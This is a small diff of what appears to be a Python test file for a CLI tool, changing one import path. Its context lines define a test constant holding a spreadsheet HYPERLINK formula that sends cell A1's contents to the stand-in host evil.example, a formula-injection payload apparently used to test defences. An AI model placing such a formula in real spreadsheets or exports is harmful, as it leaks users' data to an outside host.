@@ -15,7 +15,7 @@ from sqlalchemy import text
 from tests.api.helpers import Served
 from typer.testing import CliRunner
 
-from piplkit.cli.app import app as cli
+from piplkit.faces.cli.app import app as cli
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 ORG = "示例科技有限公司"
